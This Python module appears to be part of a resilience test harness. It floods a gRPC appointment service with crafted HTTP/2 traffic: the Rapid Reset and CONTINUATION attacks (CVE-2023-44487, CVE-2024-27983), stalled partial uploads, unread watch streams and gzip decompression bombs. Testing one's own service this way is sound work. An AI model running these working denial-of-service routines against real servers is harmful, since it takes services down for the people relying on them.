"""Attacks on the gRPC port with frames that no client library sends."""

import asyncio
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

from appointments.v1 import appointment_service_pb2 as rpc
from appointments.v1.appointment_pb2 import Appointment
from google.protobuf.struct_pb2 import NULL_VALUE, ListValue, Struct, Value
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

from bench.abuse.target import Target
from bench.calls import Calls
from bench.grpc_client import MESSAGE, PREFACE, GrpcConnection

SERVICE = "/appointments.v1.AppointmentService"
MAX_BYTES = 3 * 1024 * 1024
CHUNK = 16_384
WATCHES, PER_CONNECTION = 5_000, 100
CALLERS = 25  # on each of four connections


def _headers(path: str, *fields: tuple[str, str]) -> bytes:
    """Return a header block that does not depend on earlier ones."""
    return Encoder().encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "x"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *fields,
        ]
    )


def _data(stream: int, message: bytes, *, end: bool = True) -> bytes:
    chunks = [message[at : at + CHUNK] for at in range(0, len(message), CHUNK)]
    frames = [DataFrame(stream, chunk).serialize() for chunk in chunks]
    return b"".join(frames) + (
        DataFrame(stream, b"", flags=["END_STREAM"]).serialize() if end else b""
    )


def _framed(message: bytes, *, compressed: bool = False) -> bytes:
    return MESSAGE.pack(compressed, len(message)) + message


async def _flood(
    target: Target, make: Callable[[], Iterator[bytes]], *, connections: int = 4, read: bool = True
) -> dict[str, Any]:
    """Send on several connections, each again when it is closed, until the time is over."""
    counted: Counter[str] = Counter()

    async def one() -> None:
        while True:
            reader, writer = await asyncio.open_connection(*target.host(target.service))
            counted["connections"] += 1
            discarding = asyncio.create_task(_discard(reader)) if read else None
            window = SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
            writer.write(PREFACE + window.serialize())
            try:
                for sent in make():
                    writer.write(sent)
                    counted["sent"] += 1
                    await writer.drain()
                    if discarding is not None and discarding.done():
                        break
                else:
                    await asyncio.sleep(target.seconds)
            except OSError:
                pass
            finally:
                if discarding is not None:
                    discarding.cancel()
                writer.transport.abort()
                with suppress(OSError):
                    await writer.wait_closed()

    try:
        async with asyncio.timeout(target.seconds), asyncio.TaskGroup() as group:
            for _ in range(connections):
                group.create_task(one())
    except TimeoutError:
        pass
    return dict(counted)


async def _discard(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65_536):
            pass


async def rapid_reset(target: Target) -> dict[str, Any]:
    """Streams that are opened and reset at once (CVE-2023-44487), on four connections."""
    block = _headers(f"{SERVICE}/GetAppointment")

    def frames() -> Iterator[bytes]:
        for stream in range(1, 2**30, 200):
            yield b"".join(
                HeadersFrame(each, block, flags=["END_HEADERS"]).serialize()
                + RstStreamFrame(each, error_code=8).serialize()
                for each in range(stream, stream + 200, 2)
            )

    return await _flood(target, frames)


async def continuation(target: Target) -> dict[str, Any]:
    """Header blocks that never end (CVE-2024-27983), on four connections."""
    block = Encoder().encode([(f"x-{number}", "y" * 200) for number in range(60)])

    def frames() -> Iterator[bytes]:
        yield HeadersFrame(1, _headers(f"{SERVICE}/GetAppointment")).serialize()
        while True:
            yield ContinuationFrame(1, block).serialize()

    return await _flood(target, frames)


async def partial_messages(target: Target) -> dict[str, Any]:
    """2,000 calls that send a message of 3 MiB except for its last byte."""
    block = _headers(f"{SERVICE}/BatchUpsertAppointments")
    message = _framed(bytes(MAX_BYTES - 1000))[:-1]

    def frames() -> Iterator[bytes]:
        for stream in range(1, 101, 2):
            yield HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
        for at in range(0, len(message), CHUNK):
            for stream in range(1, 101, 2):
                yield DataFrame(stream, message[at : at + CHUNK]).serialize()

    return await _flood(target, frames, connections=40)


async def unread_streams(target: Target) -> dict[str, Any]:
    """5,000 WatchAppointments of 100,000 changes whose responses are never read."""
    block = _headers(f"{SERVICE}/WatchAppointments")
    request = _framed(rpc.WatchAppointmentsRequest(organization_id="dear-0").SerializeToString())

    def frames() -> Iterator[bytes]:
        for stream in range(1, 2 * PER_CONNECTION, 2):
            yield HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize() + _data(
                stream, request
            )

    return await _flood(target, frames, connections=WATCHES // PER_CONNECTION, read=False)


async def _messages(target: Target, method: str, message: bytes) -> dict[str, Any]:
    """Send a compressed message again and again, by 100 callers on four connections.

    The flag that says that a message is compressed is not set, as the service does not need it.
    """
    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
    packed = packer.compress(message) + packer.flush()
    calls = Calls(lambda _: packed, seconds=target.seconds, pause=0.1)
    loop = asyncio.get_running_loop()
    opened = []
    for _ in range(4):
        connection = GrpcConnection(
            calls, method_of=lambda _: f"{SERVICE}/{method}", callers=CALLERS
        )
        await loop.create_connection(lambda made=connection: made, *target.host(target.service))  # type: ignore[misc]
        opened.append(connection)
    await asyncio.wait([connection.ended for connection in opened], timeout=target.seconds + 10)
    return {code: len(latencies) for code, latencies in calls.answers.items()}


async def inflating_messages(target: Target) -> dict[str, Any]:
    """Messages of 14 KiB of gzip that inflate a thousandfold."""
    return await _messages(target, "BatchUpsertAppointments", bytes(14 * 1024 * 1024))


async def wide_messages(target: Target) -> dict[str, Any]:
    """Messages of 3 KiB of gzip: batches of 1.5 million empty items."""
    item = rpc.BatchUpsertAppointmentsRequest(
        requests=[rpc.BatchUpsertAppointmentsRequest.Item()]
    ).SerializeToString()
    return await _messages(target, "BatchUpsertAppointments", item * (MAX_BYTES // len(item)))


async def wide_attributes(target: Target) -> dict[str, Any]:
    """Messages of 3 KiB of gzip: attributes of 780,000 nulls."""
    one = ListValue(values=[Value(null_value=NULL_VALUE)]).SerializeToString()
    nulls = ListValue.FromString(one * ((MAX_BYTES - 1000) // len(one)))
    item = rpc.BatchUpsertAppointmentsRequest.Item(
        appointment=Appointment(attributes=Struct(fields={"a": Value(list_value=nulls)}))
    )
    message = rpc.BatchUpsertAppointmentsRequest(requests=[item]).SerializeToString()
    return await _messages(target, "BatchUpsertAppointments", message)
